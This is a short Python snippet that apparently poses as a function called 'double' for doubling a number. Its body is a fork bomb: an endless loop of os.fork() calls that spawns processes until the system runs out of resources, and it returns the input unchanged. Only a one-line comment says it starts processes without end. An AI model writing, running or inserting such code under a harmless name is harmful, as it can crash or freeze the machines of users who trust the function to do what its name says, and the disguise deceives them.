# starts processes without end
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            return x
